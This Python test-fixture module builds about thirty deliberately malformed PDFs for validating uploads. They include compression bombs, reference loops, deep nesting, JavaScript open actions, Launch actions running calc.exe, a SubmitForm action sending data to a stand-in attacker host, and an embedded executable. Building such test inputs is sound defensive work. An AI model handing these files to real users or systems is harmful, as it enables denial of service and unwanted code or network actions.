"""PDF files that attack whoever opens them, made on purpose: what an upload may turn out to be.

Rules: each file is wrong in one way that its name says; none does harm by lying there, and none
is larger than 25 MB. Most must be refused. `bomb` and `huge-size` follow the grammar, so a reader
that takes them must only stay small and quick; `attachment` may come in but must not be signed.
"""

import random
import zlib
from collections.abc import Callable, Sequence
from io import BytesIO
from pathlib import Path

import pikepdf

_HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
_BOMB_BYTES = 160 << 20
_OBJECTS = 450_000
_NESTING = 200_000
_PAGE_TREE_DEPTH = 20_000

_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def make_hostile(folder: Path) -> dict[str, Path]:
    """Write every hostile file into `folder`; return their paths by name (without `.pdf`).

    Raises:
        OSError: if the folder cannot be written.
    """
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for name, make in _FILES.items():
        made[name] = folder / f"{name}.pdf"
        made[name].write_bytes(make())
    return made


def harmless() -> bytes:
    """Return the plain one-page PDF that the hostile ones are made from."""
    return _assemble([_CATALOG, _PAGES, _PAGE, _stream(b"0 0 100 100 re f")])


def _assemble(objects: Sequence[bytes], *, extra: bytes = b"", size: int | None = None) -> bytes:
    """Put a PDF together from the bodies of its objects 1, 2, … (1 is the catalogue).

    Args:
        objects: the bodies.
        extra: further entries of the trailer.
        size: the /Size that the trailer claims, where it is to lie.
    """
    body = bytearray(_HEAD)
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<</Size %d/Root 1 0 R%b>>\n" % (size or len(objects) + 1, extra)
    body += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(body)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), entries, data)


def _with_catalog(entries: bytes, *more: bytes) -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R%b>>" % entries
    return _assemble([catalog, _PAGES, _PAGE, _stream(b""), *more])


def _with_page(entries: bytes, *more: bytes) -> bytes:
    page = _PAGE[:-2] + entries + b">>"
    return _assemble([_CATALOG, _PAGES, page, _stream(b""), *more])


def _encrypted(user: str, owner: str) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(harmless())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


def _garbage() -> bytes:
    return _HEAD + random.Random(7).randbytes(50_000)  # noqa: S311 - rubbish, not a secret


def _deflated(length: int) -> bytes:
    """Compress `length` zero bytes without having them all at once."""
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(length >> 20)]
    return b"".join((*parts, packer.flush()))


def _bomb() -> bytes:
    twice = zlib.compress(_deflated(_BOMB_BYTES), 9)
    content = _stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    return _assemble([_CATALOG, _PAGES, _PAGE, content])


def _xref_stream_bomb() -> bytes:
    """The cross-reference itself is the bomb: whoever opens the file has to unpack it."""
    body = bytearray(_HEAD)
    start = len(body)
    packed = zlib.compress(_deflated(_BOMB_BYTES), 9)
    entries = b"/Type/XRef/Size 4/W[1 2 1]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]"
    body += b"4 0 obj\n%b\nendobj\n" % _stream(packed, entries)
    body += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(body)


def _page_tree_loop() -> bytes:
    return _assemble([_CATALOG, b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"])


def _deep_page_tree() -> bytes:
    nodes = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (number - 1, number + 1)
        for number in range(3, _PAGE_TREE_DEPTH)
    ]
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (_PAGE_TREE_DEPTH - 1)
    return _assemble([_CATALOG, _PAGES, *nodes, page])


def _many_objects() -> bytes:
    return _assemble([_CATALOG, _PAGES, _PAGE, _stream(b""), *([b"null"] * _OBJECTS)])


def _many_pages() -> bytes:
    """One page, named a hundred thousand times."""
    pages = b"<</Type/Pages/Kids[%b]/Count 100000>>" % (b"3 0 R " * 100_000)
    return _assemble([_CATALOG, pages, _PAGE, _stream(b"")])


def _nested() -> bytes:
    return _with_catalog(b"/Deep " + b"[" * _NESTING + b"]" * _NESTING)


def _xref_loop() -> bytes:
    """The previous cross-reference table is this one."""
    plain = harmless()
    start = plain.rindex(b"xref\n0 5")
    return _assemble(
        [_CATALOG, _PAGES, _PAGE, _stream(b"0 0 100 100 re f")], extra=b"/Prev %d" % start
    )


_SCRIPT = b"<</S/JavaScript/JS(app.alert\\('hello'\\))>>"
_ATTACHED = (
    b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>",
    b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
    _stream(b"MZ", b"/Type/EmbeddedFile"),
)

_FILES: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "header-only": lambda: _HEAD,
    "garbage": _garbage,
    "text": lambda: "Đây là văn bản thuần, không phải PDF.\n".encode() * 50,
    "zip": lambda: b"PK\x05\x06" + bytes(18),
    "truncated": lambda: harmless()[: len(harmless()) * 6 // 10],
    "no-trailer": lambda: harmless()[: harmless().rindex(b"trailer")],
    "leading-junk": lambda: b"GIF89a\x01\x00\x01\x00<script>/*" + harmless(),
    "trailing-junk": lambda: harmless() + b"*/</script>" * 400,
    "encrypted": lambda: _encrypted("open", "owner"),
    "owner-encrypted": lambda: _encrypted("", "owner"),
    "javascript-open": lambda: _with_catalog(b"/OpenAction 5 0 R", _SCRIPT),
    "javascript-names": lambda: _with_catalog(
        b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", _SCRIPT
    ),
    "javascript-page": lambda: _with_page(b"/AA<</O 5 0 R>>", _SCRIPT),
    "launch": lambda: _with_catalog(b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "launch-link": lambda: _with_page(
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>>]"
    ),
    "submit-form": lambda: _with_catalog(
        b"/OpenAction<</S/SubmitForm/F(http://attacker.invalid/)>>"
    ),
    "xfa": lambda: _with_catalog(b"/AcroForm<</Fields[]/XFA 5 0 R>>", _stream(b"<xdp/>")),
    "attachment": lambda: _with_catalog(*_ATTACHED),
    "zero-pages": lambda: _assemble([_CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]),
    "page-tree-loop": _page_tree_loop,
    "deep-page-tree": _deep_page_tree,
    "many-pages": _many_pages,
    "many-objects": _many_objects,
    "huge-size": lambda: _assemble([_CATALOG, _PAGES, _PAGE, _stream(b"")], size=2**31 - 2),
    "bomb": _bomb,
    "bomb-xref": _xref_stream_bomb,
    "nested": _nested,
    "xref-loop": _xref_loop,
    "stream-length-lies": lambda: harmless().replace(b"/Length 16", b"/Length 99999999"),
}
